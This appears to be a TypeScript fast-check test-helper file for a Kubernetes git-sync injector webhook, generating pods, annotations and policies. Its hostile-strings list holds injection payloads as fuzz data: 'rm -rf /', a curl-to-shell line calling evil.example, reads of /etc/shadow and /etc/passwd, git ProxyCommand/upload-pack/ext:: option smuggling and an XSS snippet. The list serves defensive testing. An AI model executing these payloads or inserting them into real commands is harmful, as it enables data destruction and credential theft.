/**
 * fast-check arbitraries for the engine: pods of many shapes, annotation maps
 * that mix what users really write with what an attacker or a typo produces,
 * namespace defaults, and the policies and cluster facts the engine runs with.
 *
 * Every generated document is passed through JSON once (`asJson`), so tests
 * see exactly what the webhook would see after JSON.parse: ordinary
 * prototypes, no undefined members, no -0.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { ANNOTATIONS, ANNOTATION_KEYS, type ClusterFacts } from '../../src/engine/index.ts';
import { BUILTIN_POLICY } from '../../src/policy/builtin.ts';
import { mustCompile, type CompiledPolicy } from '../../src/policy/compile.ts';
import type { Policy } from '../../src/policy/types.ts';

export type JsonObject = Record<string, unknown>;

/**
 * A property's number of runs, scaled by PROPERTY_RUNS_SCALE (default 1):
 * the defaults keep the suite fast on two cores; a nightly or a bug hunt can
 * ask for ten or a hundred times more without editing the tests.
 */
export function runs(base: number): number {
  const scale = Number(process.env.PROPERTY_RUNS_SCALE ?? '1');
  return Math.max(1, Math.round(base * (Number.isFinite(scale) && scale > 0 ? scale : 1)));
}

/** The value as it would arrive in a request body. */
export const asJson = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

// --- Policies and cluster facts ---------------------------------------------------------------

const variant = (overrides: Partial<Policy>): CompiledPolicy => mustCompile({ ...BUILTIN_POLICY, ...overrides });

const KNOWN_HOSTS_LINES = [
  'github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
  'gitlab.internal.example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAfuCHKVTjquxvt6CM6tdG4SLp1Btn/nOeHHE5UOzRdf',
];

/**
 * The policies properties run under: the built-in one, variants that open
 * the paths it keeps shut (SSH host keys, insecure host keys, native sidecars,
 * admit-on-error, another prefix), and a platform team's policy that narrows
 * them (an allow-list that some generated repositories miss, enforced
 * settings, a maximum depth, fewer modes, one filter and resource maxima).
 */
/** A CA certificate for network profiles (test/fixtures/certs; its key was thrown away). */
export const CORP_CA = readFileSync(new URL('../fixtures/certs/corp-root-ca.pem', import.meta.url), 'utf8');

/** Network profiles a platform team writes: a proxy with a private CA and an internal mirror, and a direct one. */
export const NETWORKS: Policy['networks'] = {
  corp: {
    httpsProxy: 'http://proxy.corp.example:3128',
    httpProxy: 'http://proxy.corp.example:3128',
    noProxy: '.corp.example,10.0.0.0/8,localhost,127.0.0.1',
    caBundle: CORP_CA,
    gitConfig: { 'http.postBuffer': '524288000', 'url.https://mirror.corp.example/github/.insteadOf': 'https://github.com/' },
    env: { GITSYNC_VERBOSE: '2', GIT_TRACE: '0' },
  },
  direct: { gitConfig: { 'http.version': 'HTTP/1.1' } },
};

export const POLICIES = {
  builtin: mustCompile(BUILTIN_POLICY),
  sshReady: variant({ knownHosts: KNOWN_HOSTS_LINES, nativeSidecars: 'enabled' }),
  permissive: variant({ knownHosts: KNOWN_HOSTS_LINES, allowInsecureHostKeys: true, onInvalidAnnotations: 'admit', nativeSidecars: 'disabled' }),
  otherPrefix: variant({ annotationPrefix: 'git.example.com/', knownHosts: KNOWN_HOSTS_LINES, excludedNamespaces: ['platform'] }),
  platform: variant({
    knownHosts: KNOWN_HOSTS_LINES,
    allowedRepos: ['github.com/**', 'gitlab.internal.example.com/**', '10.0.0.5/**'],
    defaults: { period: '2m' },
    enforced: { period: 'warn', submodules: 'strict' },
    allowedFilters: ['blob:none'],
    limits: {
      ...BUILTIN_POLICY.limits,
      minPeriod: '30s',
      maxDepth: 10,
      allowedModes: ['sidecar', 'init-only'],
      webhookHosts: ['reloader.tools.svc'],
      maxResources: { cpu: '500m', memory: '1Gi' },
      maxRootSizeLimit: '5Gi',
    },
    networks: NETWORKS,
    githubBaseUrl: 'https://github.corp.example/api/v3/',
  }),
} as const satisfies Record<string, CompiledPolicy>;

/** Cases name their policy instead of carrying it, so that counterexamples stay readable. */
export type PolicyName = keyof typeof POLICIES;

export const policyArb: fc.Arbitrary<PolicyName> = fc.constantFrom(...(Object.keys(POLICIES) as PolicyName[]));

export const clusterArb: fc.Arbitrary<ClusterFacts> = fc.constantFrom<ClusterFacts>({}, { nativeSidecars: true }, { nativeSidecars: false });

// --- Strings --------------------------------------------------------------------------------

/** Values that have broken injectors, shells, git or YAML somewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\n',
  '\t',
  'main\nGITSYNC_ONE_TIME=true',
  'main\r\nX-Injected: 1',
  'line1\u2028line2',
  '\u0000',
  'nul\u0000byte',
  'del\u007f',
  'c1\u0085control',
  '"',
  "'",
  '\\',
  '`id`',
  '$(id)',
  '$(GITSYNC_PASSWORD)',
  '$$',
  '${HOME}',
  '; rm -rf /',
  '&& curl evil.example | sh',
  '| cat /etc/shadow',
  '--upload-pack=touch /tmp/pwned',
  '--config=core.sshCommand=sh',
  '-oProxyCommand=touch /tmp/pwned',
  '-',
  '--',
  '-main',
  '..',
  '../../etc',
  '/../../etc/passwd',
  'a/../b',
  '.',
  '/',
  '//',
  '~',
  '~/repo',
  'ext::sh -c touch% /tmp/pwned',
  'ext::sh',
  'fd::17',
  'file:///etc',
  'file:///etc/passwd',
  '/etc/passwd',
  'http://github.com/org/repo.git',
  'git://github.com/org/repo.git',
  'https://user:password@github.com/org/repo.git',
  'https://x-access-token:ghp_abcdef0123456789@github.com/org/repo.git',
  'https://token@github.com/org/repo.git',
  'ssh://git:secret@github.com/org/repo.git',
  'ssh://-oProxyCommand=touch%20x@github.com/org/repo.git',
  'git@-oProxyCommand=x:org/repo.git',
  '-oProxyCommand=x@github.com:org/repo.git',
  'https://github.com/org/repo.git?ref=main',
  'https://github.com/org/repo.git#main',
  'https://github.com/-org/repo.git',
  'https:/github.com/org/repo.git',
  'github.com/org/repo',
  'localhost:repo',
  '[::1]:org/repo.git',
  'HEAD~1',
  'main^',
  'refs/heads/main.lock',
  'main@{yesterday}',
  '@',
  'a b',
  'main ',
  ' main',
  '*',
  '?',
  '[',
  'true ',
  'TRUE',
  'yes',
  '1',
  '0',
  '-1',
  '1e3',
  '0x10',
  '99999999999999999999',
  'NaN',
  'Infinity',
  '0s',
  '-5s',
  '1d',
  '25h',
  '10',
  'ḿáin',
  'brånch',
  '🚀',
  'العربية',
  '\u202etxt.exe',
  '\ufeffmain',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'toString',
  '{"a":1}',
  '[1,2]',
  'a: b\nc: d',
  '<script>alert(1)</script>',
  '%00',
  '%0a',
  'x'.repeat(300),
  'a'.repeat(5000),
  `https://github.com/org/${'r'.repeat(3000)}.git`,
  `/${'p'.repeat(1100)}`,
  'App',
  'app,,web',
  'app, nonexistent',
  'Git-Sync',
  '1abc',
  'AIRFLOW__CORE__DAGS_FOLDER=x',
  'a-b',
];

/** Hostile strings, plus random ones (any code unit, long and short). */
export const hostileStringArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 2000 }) },
);

/** One of `choices`, each as likely as its weight. */
function weighted<T>(choices: [T, number][]): fc.Arbitrary<T> {
  return fc.oneof(...choices.map(([value, weight]) => ({ weight, arbitrary: fc.constant(value) })));
}

const lowerName = fc.stringMatching(/^[a-z][a-z0-9-]{0,14}[a-z0-9]$/);

// --- Valid annotation values ------------------------------------------------------------------

const httpsRepo = fc
  .tuple(fc.constantFrom('github.com', 'gitlab.internal.example.com', 'git.example.org:8443', 'bitbucket.org'), lowerName, lowerName, fc.boolean())
  .map(([host, org, name, dotGit]) => `https://${host}/${org}/${name}${dotGit ? '.git' : ''}`);
const sshRepo = fc
  .tuple(fc.constantFrom('github.com', 'gitlab.internal.example.com', 'git.example.org:2222'), lowerName, lowerName)
  .map(([host, org, name]) => `ssh://git@${host}/${org}/${name}.git`);
const scpRepo = fc
  .tuple(fc.constantFrom('github.com', 'gitlab.internal.example.com', '10.0.0.5'), lowerName, lowerName)
  .map(([host, org, name]) => `git@${host}:${org}/${name}.git`);

/**
 * A token as it appears in credentials: long enough and marked so that it
 * cannot turn up in a message by chance, with the characters tokens and
 * passwords use, '/', '+', '=' and '%' among them.
 */
export const secretTokenArb: fc.Arbitrary<string> = fc
  .string({ unit: fc.constantFrom(...'abcdefghijXYZ0123456789_-./+=~%!$&*,;'), minLength: 12, maxLength: 40 })
  .map((s) => `SeCrEt${s}`);

/**
 * A repository URL that carries `token`, in the spellings that have slipped
 * past parsers: a password or token before an '@' (with '/', '#', '?', a
 * space, a tab, a backslash or another '@' between user and token), a
 * user-less token, scp-style `user:token@host:path`, `oauth2:token@host/path`,
 * full-width '@', and tokens in a query or fragment.
 */
export function urlWithSecretArb(token: string): fc.Arbitrary<string> {
  const scheme = fc.constantFrom('https://', 'HTTPS://', 'ssh://', 'http://', 'git+ssh://', '', 'https:/', 'https:///');
  const user = fc.constantFrom('user', 'oauth2', 'x-access-token', 'git', '');
  const sep = fc.constantFrom(':', ':p/', ':p#', ':p?', ':p ', ':p\\', ':p@', ':p%40', ':p\t', ':p\n', ':p;', '/', '#', '?');
  const at = fc.constantFrom('@', '@', '@', '@@', '\uff20', '%40@');
  const host = fc.constantFrom('github.com', 'git.example.com:8443', '10.0.0.5', '[::1]', 'host');
  const hostSep = fc.constantFrom('/', ':');
  const path = fc.constantFrom('acme/dags.git', 'org/repo', '', 'a/b/c.git');
  const withUser = fc.tuple(scheme, user, sep).map(([sc, u, s]) => `${sc}${u}${s}${token}`);
  // A bare token is a secret over HTTPS; over ssh it would be a user name, which ssh does not authenticate with.
  const bare = fc.constantFrom('https://', 'HTTPS://', 'http://', 'git+ssh://', 'https:/').map((sc) => `${sc}${token}`);
  const beforeAt = fc.tuple(fc.oneof({ weight: 4, arbitrary: withUser }, bare), at, host, hostSep, path).map(([ui, a, h, hs, p]) => `${ui}${a}${h}${hs}${p}`);
  const inQuery = fc
    .tuple(fc.constantFrom('https://github.com/acme/dags.git', 'git@github.com:acme/dags.git', 'ssh://git@github.com/acme/dags.git'), fc.constantFrom('?access_token=', '?private_token=', '#', '?'))
    .map(([base, q]) => `${base}${q}${token}`);
  return fc.oneof({ weight: 5, arbitrary: beforeAt }, { weight: 1, arbitrary: inQuery });
}

/** Repository URLs as users write them; HTTPS is the most common, and needs no SSH setup to inject. */
export const repoArb: fc.Arbitrary<string> = fc.oneof({ weight: 2, arbitrary: httpsRepo }, sshRepo, scpRepo);

export const refArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('HEAD', 'main', 'master', 'develop', 'v1.2.3', 'release/2024.10', 'feature/add-dags', 'abc1234', 'refs/heads/main'),
  fc.stringMatching(/^[0-9a-f]{40}$/),
);

export const durationArb: fc.Arbitrary<string> = fc.constantFrom('10s', '30s', '1m', '90s', '5m', '1h30m', '2h', '500ms', '1s', '24h');

export const absolutePathArb: fc.Arbitrary<string> = fc.constantFrom('/git', '/opt/airflow/dags', '/data/git', '/srv/repo/', '/a//b', '/usr/share/nginx/html', '/workspace/./code');

export const relativePathArb: fc.Arbitrary<string> = fc.constantFrom('dags', 'src/dags', '', 'docs/site', 'a/./b', 'x/');

/** Valid values per annotation key; `containers` are chosen from the pod's own container names. */
function validValues(containers: readonly string[]): Record<string, fc.Arbitrary<string>> {
  const names = containers.length > 0 ? containers : ['app'];
  return {
    inject: fc.constantFrom('true', 'true', 'true', 'false'),
    repo: repoArb,
    ref: refArb,
    secret: fc.constantFrom('git-credentials', 'airflow-ssh-secret', 'repo-token'),
    'secret-layout': fc.constantFrom('auto', 'basic-auth', 'airflow', 'token', 'github-app'),
    'token-user': fc.constantFrom('github', 'gitlab', 'bitbucket'),
    'github-app-id': fc.constantFrom('1', '123456'),
    'github-app-client-id': fc.constantFrom('Iv1.0123456789abcdef', 'Iv23liAbCdEf'),
    'github-app-installation-id': fc.constantFrom('42', '987654'),
    'github-app-key': fc.constantFrom('githubAppPrivateKey', 'private-key.pem'),
    'sync-timeout': fc.constantFrom('30s', '2m', '5m', '10m'),
    'max-failures': fc.constantFrom('0', '3', '10', '-1'),
    'webhook-url': fc.constantFrom('http://localhost:8080/-/reload', 'http://127.0.0.1:9000/hook', 'http://[::1]:8080/', 'https://reloader.tools.svc/hook'),
    'touch-file': fc.constantFrom('synced', 'last-sync', '.hidden'),
    network: fc.constantFrom('corp', 'direct'),
    'ssh-key': fc.constantFrom('gitSshKey', 'ssh', 'ssh-privatekey', 'id_ed25519'),
    'known-hosts': fc.constantFrom('policy', 'secret', 'insecure'),
    period: durationArb,
    depth: fc.constantFrom('0', '1', '10', '50'),
    submodules: fc.constantFrom('off', 'shallow', 'recursive'),
    'sub-path': relativePathArb,
    'mount-path': absolutePathArb,
    containers: fc.subarray([...names], { minLength: 1 }).map((l) => l.join(',')),
    mode: fc.constantFrom('auto', 'sidecar', 'native', 'init-only'),
    preset: fc.constantFrom('airflow'),
    env: fc.constantFrom('AIRFLOW__CORE__DAGS_FOLDER', 'DAGS_FOLDER', 'GIT_PATH', '_X'),
    'sparse-paths': fc.constantFrom('dags', 'dags,plugins', 'teams/data/dags', ' src/dags , include ', 'dags/team-a,dags'),
    filter: fc.constantFrom('blob:none', 'tree:0', 'blob:limit=1m', 'none'),
    'cpu-request': fc.constantFrom('10m', '100m', '0.5'),
    'cpu-limit': fc.constantFrom('500m', '1', '2'),
    'memory-request': fc.constantFrom('32Mi', '64Mi', '128Mi'),
    'memory-limit': fc.constantFrom('256Mi', '1Gi', '3Gi'),
    'root-size-limit': fc.constantFrom('500Mi', '1Gi', '10Gi'),
  };
}

/** A value for `key`: usually one a user would write, sometimes a hostile one. */
function valueArb(key: string, containers: readonly string[], hostileWeight: number): fc.Arbitrary<string> {
  const valid = validValues(containers)[key] ?? fc.string({ maxLength: 10 });
  if (hostileWeight <= 0) return valid;
  return fc.oneof(
    { weight: 20, arbitrary: valid },
    { weight: hostileWeight, arbitrary: hostileStringArb },
    // A valid value with something appended or prepended: the classic injection.
    { weight: Math.ceil(hostileWeight / 2), arbitrary: fc.tuple(valid, hostileStringArb, fc.boolean()).map(([v, h, before]) => (before ? h + v : v + h)) },
  );
}

export interface AnnotationOptions {
  /** The policy's annotation prefix. */
  prefix: string;
  /** Names of the pod's containers, for the `containers` annotation. */
  containers?: readonly string[];
  /** Relative weight of hostile values against 20 for valid ones; 0 for valid values only. */
  hostileWeight?: number;
  /** Whether the pod sets `repo` nine times in ten (false: half the time, like any other key). */
  optIn?: boolean;
  /** The most named repositories (`<name>.repo`, `<name>.<key>`) to add; 0 (the default) for none. */
  repositories?: number;
}

/** Names of named repositories: usual ones, ones that clash with the injector's names, and invalid ones. */
const REPOSITORY_NAMES = ['plugins', 'lib', 'content', 'root', 'tmp', 'secret', 'x-2'];
const BAD_REPOSITORY_NAMES = ['init', 'Bad_Name', 'a'.repeat(21)];

/**
 * Annotation maps as pod authors write them: a few of the injector's keys,
 * foreign annotations, the occasional typo or reserved key.
 */
export function annotationsArb(options: AnnotationOptions): fc.Arbitrary<Record<string, string>> {
  const { prefix, containers = [], hostileWeight = 3, optIn = true } = options;
  const others = ANNOTATION_KEYS.filter((k) => k !== 'repo');
  const keyed = (keys: string[]) =>
    fc.tuple(...keys.map((k) => valueArb(k, containers, hostileWeight).map((v) => [`${prefix}${k}`, v] as const)));
  const ours = fc
    .tuple(
      optIn ? fc.oneof({ weight: 9, arbitrary: fc.constant(['repo']) }, { weight: 1, arbitrary: fc.constant([] as string[]) }) : fc.subarray(['repo']),
      fc.subarray(others.filter((k) => k !== 'secret'), { maxLength: 6 }),
      // SSH repositories need a Secret; without one most cases would only test that denial.
      fc.oneof({ weight: 3, arbitrary: fc.constant(['secret']) }, { weight: 2, arbitrary: fc.constant([] as string[]) }),
    )
    .chain(([a, b, secret]) => keyed([...a, ...secret, ...b]));
  // Named repositories: each usually with its repo and a Secret, and a few of its own settings, valid or hostile.
  const repositoryKeys = ANNOTATION_KEYS.filter((k) => ANNOTATIONS[k].scope !== 'pod' && k !== 'repo' && k !== 'secret');
  const named = fc
    .uniqueArray(fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...REPOSITORY_NAMES) }, { weight: 1, arbitrary: fc.constantFrom(...BAD_REPOSITORY_NAMES) }), { maxLength: options.repositories ?? 0 })
    .chain((names) =>
      fc.tuple(
        ...names.map((name) =>
          fc
            .tuple(
              fc.oneof({ weight: 9, arbitrary: fc.constant(['repo']) }, { weight: 1, arbitrary: fc.constant([] as string[]) }),
              fc.oneof({ weight: 3, arbitrary: fc.constant(['secret']) }, { weight: 2, arbitrary: fc.constant([] as string[]) }),
              fc.subarray(repositoryKeys, { maxLength: 3 }),
            )
            .chain(([a, secret, b]) => fc.tuple(...[...a, ...secret, ...b].map((k) => valueArb(k, containers, hostileWeight).map((v) => [`${prefix}${name}.${k}`, v] as const)))),
        ),
      ),
    )
    .map((lists) => lists.flat());
  const foreign = fc.subarray(
    [
      ['app.kubernetes.io/name', 'airflow'],
      ['example.com/owner', 'team-data'],
      ['kubectl.kubernetes.io/last-applied-configuration', '{"apiVersion":"v1"}'],
      ['a~b/c', 'tilde and slash in a key'],
      ['cluster-autoscaler.kubernetes.io/safe-to-evict', 'true'],
    ] as [string, string][],
    { maxLength: 3 },
  );
  // Keys with our prefix that the injector does not read, or writes itself.
  const odd = fc.oneof(
    { weight: 24, arbitrary: fc.constant([] as [string, string][]) },
    {
      weight: 4,
      arbitrary: fc
        .subarray(['branch', 'Repo', 'repos', 'rev', '', 'repo/extra', 'known-hosts-data', 'sparse-checkout-data', 'mode '])
        .chain((keys) => fc.tuple(...keys.map((k) => valueArb('repo', containers, hostileWeight).map((v) => [`${prefix}${k}`, v] as [string, string])))),
    },
    { weight: 1, arbitrary: fc.constantFrom<[string, string][]>([[`${prefix}status`, '{"version":"0.0.1"}']], [['kubernetes.io/config.mirror', 'abc123']]) },
  );
  // Without named repositories the arbitrary draws exactly what it always did, so seeded samples stay the same.
  if (!options.repositories) return fc.tuple(ours, foreign, odd).map(([a, b, c]) => Object.fromEntries([...b, ...c, ...a]));
  return fc.tuple(ours, foreign, odd, named).map(([a, b, c, d]) => Object.fromEntries([...b, ...c, ...a, ...d]));
}

/** Namespace annotations: defaults for the pods in it, plus unrelated ones. */
export function namespaceAnnotationsArb(prefix: string, hostileWeight = 3): fc.Arbitrary<Record<string, string>> {
  const keys = ['repo', 'ref', 'secret', 'period', 'preset', 'mount-path', 'known-hosts', 'mode', 'depth', 'branch'];
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant({}) },
    {
      weight: 3,
      arbitrary: fc
        .subarray(keys, { maxLength: 4 })
        .chain((ks) => fc.tuple(...ks.map((k) => valueArb(k, [], hostileWeight).map((v) => [`${prefix}${k}`, v] as const))))
        .map((entries) => ({ 'kubernetes.io/metadata.name': 'team-a', ...Object.fromEntries(entries) })),
    },
  );
}

// --- Pods ----------------------------------------------------------------------------------

/** Container names, including the ones the injector would like to use itself. */
export const CONTAINER_NAMES = ['app', 'web', 'worker', 'scheduler', 'base', 'git-sync', 'git-sync-init', 'git-sync-2', 'git-sync-init-2'] as const;
/** Volume names, including the injector's own choices. */
export const VOLUME_NAMES = ['git-sync-root', 'git-sync-tmp', 'git-sync-secret', 'git-sync-known-hosts', 'git-sync-root-2', 'data', 'config', 'dags'] as const;
/** Mount paths app containers already use; several are the injector's defaults, spelled as the engine expects. */
const MOUNT_PATHS = ['/git', '/git/', '/opt/airflow/dags', '/data', '/tmp', '/etc/config', '/usr/share/nginx/html', '/var/run/app'];
/** The same directories spelled in ways the container runtime also treats as the same. */
const ODD_MOUNT_PATHS = ['//git', '/./git', '/git/.', '/opt//airflow/dags', '/opt/airflow/dags/./'];
const GIT_SYNC_IMAGE = 'registry.k8s.io/git-sync/git-sync:v4.2.4';

const envVarArb = fc.tuple(
  fc.constantFrom('PATH', 'HOME', 'AIRFLOW__CORE__DAGS_FOLDER', 'DAGS_FOLDER', 'GITSYNC_REPO', 'GITSYNC_PASSWORD', 'GIT_SYNC_BRANCH', 'GITSYNC_ONE_TIME', 'LD_PRELOAD'),
  fc.oneof(
    fc.constantFrom('value', '', '/bin:/usr/bin', '$(HOME)/x', 'ext::sh -c id', 'multi\nline').map((value) => ({ value })),
    fc.constant({ valueFrom: { secretKeyRef: { name: 'app-secret', key: 'token' } } }),
    fc.constant({ valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }),
  ),
).map(([name, rest]) => ({ name, ...rest }));

export interface PodOptions {
  /** Let app containers mount at '//git'-style spellings of the injector's mount paths. */
  oddMountPaths?: boolean;
  /** Let a container run the git-sync image (the engine then leaves the pod alone). */
  gitSyncImage?: boolean;
  /**
   * Let the pod refer to names it does not declare, as an attacker would: mounts
   * and devices of volumes it does not have (the injector's names among them),
   * an ephemeral container targeting any container name, kubectl's default
   * container. Such pods are not valid as they stand.
   */
  strayReferences?: boolean;
}

const normalise = (p: string) => `/${p.split('/').filter((s) => s !== '' && s !== '.').join('/')}`;

function containerArb(name: string, volumes: readonly string[], init: boolean, options: PodOptions): fc.Arbitrary<JsonObject> {
  const images = ['nginx:1.27', 'apache/airflow:2.10.3', 'busybox:1.36', 'ghcr.io/example/app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'];
  const image = options.gitSyncImage ? fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...images) }, { weight: 1, arbitrary: fc.constant(GIT_SYNC_IMAGE) }) : fc.constantFrom(...images);
  const paths = options.oddMountPaths ? [...MOUNT_PATHS, ...ODD_MOUNT_PATHS] : MOUNT_PATHS;
  // With stray references, any volume name may be mounted, declared or not.
  const mountable = options.strayReferences ? [...VOLUME_NAMES] : volumes;
  const mounts =
    mountable.length === 0
      ? fc.constant(undefined)
      : fc.uniqueArray(
          fc.record({ name: fc.constantFrom(...mountable), mountPath: fc.constantFrom(...paths), readOnly: fc.boolean() }, { requiredKeys: ['name', 'mountPath'] }),
          { selector: (m) => normalise(m.mountPath), maxLength: 3 },
        );
  const devices = options.strayReferences
    ? fc.uniqueArray(fc.record({ name: fc.constantFrom(...VOLUME_NAMES), devicePath: fc.constantFrom('/dev/xvda', '/dev/block') }), { selector: (d) => d.devicePath, maxLength: 2 })
    : fc.constant(undefined);
  return fc
    .record(
      {
        image,
        command: fc.constant(['sh', '-c', 'sleep infinity']),
        env: fc.oneof(fc.uniqueArray(envVarArb, { selector: (e) => e.name, maxLength: 4 }), fc.constant(null)),
        volumeMounts: fc.oneof({ weight: 4, arbitrary: mounts }, { weight: 1, arbitrary: fc.constant(null) }),
        volumeDevices: devices,
        ports: fc.uniqueArray(fc.constantFrom(80, 8080, 1234, 1235, 9090).map((containerPort) => ({ containerPort, protocol: 'TCP' })), { selector: (p) => p.containerPort, minLength: 1, maxLength: 3 }),
        securityContext: fc.constantFrom({ runAsUser: 1000 }, { readOnlyRootFilesystem: true }),
        restartPolicy: init ? fc.constant('Always') : fc.constant(undefined),
        resources: fc.constant({ requests: { cpu: '100m' } }),
      },
      { requiredKeys: [] },
    )
    .map((c) => ({ name, ...c }));
}

const volumeArb = (name: string): fc.Arbitrary<JsonObject> =>
  fc
    .constantFrom<JsonObject>({ emptyDir: {} }, { configMap: { name: 'app-config' } }, { secret: { secretName: 'app-secret', defaultMode: 0o400 } }, { persistentVolumeClaim: { claimName: 'data' } })
    .map((source) => ({ name, ...source }));

const metadataArb: fc.Arbitrary<JsonObject | undefined> = fc.oneof(
  { weight: 1, arbitrary: fc.constant(undefined) },
  {
    weight: 8,
    arbitrary: fc.record(
      {
        name: fc.constantFrom('web-0', 'airflow-worker-7f9c'),
        generateName: fc.constantFrom('airflow-scheduler-5d8f-', 'job-'),
        namespace: weighted([['default', 4], ['team-a', 4], ['', 2], ['kube-system', 1], ['platform', 1]]),
        labels: fc.constant({ app: 'demo' }),
        ownerReferences: fc.constant([{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'rs', uid: 'u', controller: true }]),
      },
      { requiredKeys: [] },
    ),
  },
);

/**
 * Pods that the API server would accept: unique names, mounts backed by
 * volumes, well-formed env. Metadata may be missing, have only
 * generateName, or no namespace; lists may be absent, empty or null.
 */
export function podArb(options: PodOptions = {}): fc.Arbitrary<JsonObject> {
  return fc
    .record({
      names: fc.uniqueArray(fc.constantFrom(...CONTAINER_NAMES), { minLength: 1, maxLength: 5 }),
      initCount: fc.nat(2),
      volumes: fc.uniqueArray(fc.constantFrom(...VOLUME_NAMES), { maxLength: 4 }),
    })
    .chain(({ names, initCount, volumes }) => {
      const appNames = names.slice(0, Math.max(1, names.length - initCount));
      const initNames = names.slice(appNames.length);
      return fc.record(
        {
          typeMeta: fc.boolean(),
          metadata: metadataArb,
          containers: fc.tuple(...appNames.map((n) => containerArb(n, volumes, false, options))),
          initContainers: fc.oneof(fc.tuple(...initNames.map((n) => containerArb(n, volumes, true, options))), fc.constant(null)),
          volumes: volumes.length ? fc.tuple(...volumes.map(volumeArb)) : fc.constantFrom(undefined, null, []),
          securityContext: fc.constantFrom(undefined, null, {}, { fsGroup: 0 }, { fsGroup: 1000, runAsUser: 1000 }, { runAsNonRoot: true }),
          restartPolicy: fc.constantFrom(undefined, 'Always', 'Never', 'OnFailure'),
          strays: options.strayReferences ? strayReferencesArb(volumes, options) : fc.constant<StrayReferences>({}),
          extras: fc.record({ serviceAccountName: fc.constant('airflow'), nodeSelector: fc.constant({ 'kubernetes.io/os': 'linux' }), terminationGracePeriodSeconds: fc.constant(30) }, { requiredKeys: [] }),
          status: fc.constantFrom(undefined, {}),
        },
        // volumes is required: the mounts above may name any of them.
        { requiredKeys: ['typeMeta', 'metadata', 'containers', 'volumes', 'extras', 'strays'] },
      );
    })
    .map(({ typeMeta, metadata, containers, initContainers, volumes, securityContext, restartPolicy, extras, status, strays }) =>
      asJson({
        ...(typeMeta ? { apiVersion: 'v1', kind: 'Pod' } : {}),
        metadata: strays.annotations ? { ...metadata, annotations: strays.annotations } : metadata,
        spec: { ...extras, restartPolicy, securityContext, initContainers, containers, volumes, ephemeralContainers: strays.ephemeralContainers },
        status,
      }),
    );
}

/** Every container name a pod may use, the injector's own choices among them. */
const REFERABLE_CONTAINERS = [...CONTAINER_NAMES, 'git-sync-3', 'debugger'];

/** What a pod refers to without declaring it: an ephemeral container and kubectl's default container, each aimed at any name. */
interface StrayReferences {
  ephemeralContainers?: JsonObject[];
  annotations?: Record<string, string>;
}

function strayReferencesArb(volumes: readonly string[], options: PodOptions): fc.Arbitrary<StrayReferences> {
  return fc.record(
    {
      ephemeralContainers: fc
        .tuple(containerArb('debugger', volumes, false, options), fc.constantFrom(...REFERABLE_CONTAINERS))
        .map(([c, target]) => [{ ...c, targetContainerName: target }]),
      annotations: fc.constantFrom(...REFERABLE_CONTAINERS).map((name) => ({ 'kubectl.kubernetes.io/default-container': name })),
    },
    { requiredKeys: [] },
  );
}

/** The names of a generated pod's app containers. */
export function appContainerNames(pod: JsonObject): string[] {
  const spec = pod.spec as { containers: { name: string }[] };
  return spec.containers.map((c) => c.name);
}

/** Everything one engine call needs. */
export interface EngineCase {
  pod: unknown;
  namespace?: string;
  namespaceAnnotations?: Record<string, string>;
  policy: PolicyName;
  cluster: ClusterFacts;
}

export interface CaseOptions extends PodOptions {
  hostileWeight?: number;
  /** The most named repositories a pod gets; 0 (the default) for none. */
  repositories?: number;
  policies?: fc.Arbitrary<PolicyName>;
}

/** A pod with annotations, its namespace, a policy and cluster facts. */
export function engineCaseArb(options: CaseOptions = {}): fc.Arbitrary<EngineCase> {
  const { hostileWeight = 3, policies = policyArb, repositories = 0 } = options;
  return fc.tuple(policies, clusterArb, podArb(options)).chain(([policy, cluster, pod]) =>
    fc
      .record(
        {
          annotations: annotationsArb({ prefix: POLICIES[policy].engine.prefix, containers: appContainerNames(pod), hostileWeight, repositories }),
          nullAnnotations: fc.oneof({ weight: 30, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) }),
          namespace: weighted([[undefined, 6], ['', 2], ['team-a', 6], ['default', 4], ['kube-system', 1]]),
          namespaceAnnotations: fc.option(namespaceAnnotationsArb(POLICIES[policy].engine.prefix, hostileWeight), { nil: undefined }),
        },
        { requiredKeys: ['annotations', 'nullAnnotations'] },
      )
      .map(({ annotations, nullAnnotations, namespace, namespaceAnnotations }) => {
        const podMetadata = (pod.metadata as JsonObject | undefined) ?? {};
        // The pod's own annotations (stray references) stay under the generated ones.
        const merged = { ...((podMetadata.annotations as Record<string, string> | undefined) ?? {}), ...annotations };
        const metadata = { ...podMetadata, annotations: nullAnnotations ? null : merged };
        const c: EngineCase = { pod: asJson({ ...pod, metadata }), policy, cluster };
        if (namespace !== undefined) c.namespace = namespace;
        if (namespaceAnnotations !== undefined) c.namespaceAnnotations = namespaceAnnotations;
        return c;
      }),
  );
}

// --- Things that are not pods ---------------------------------------------------------------

/** JSON values that parse as JSON but are not pods, or are pods with parts of the wrong type. */
export const notAPodArb: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.constantFrom<unknown>(
    null,
    [],
    'pod',
    42,
    true,
    {},
    { spec: null },
    { spec: [] },
    { spec: { containers: 'app' } },
    { spec: { containers: [] } },
    { spec: { containers: [1] } },
    { spec: { containers: [null] } },
    { spec: { containers: [{}] } },
    { spec: { containers: [{ name: 5 }] } },
    { metadata: 'x', spec: { containers: [{ name: 'app' }] } },
    { metadata: { annotations: [] }, spec: { containers: [{ name: 'app' }] } },
    { metadata: { annotations: 'gitsync.dev/repo' }, spec: { containers: [{ name: 'app' }] } },
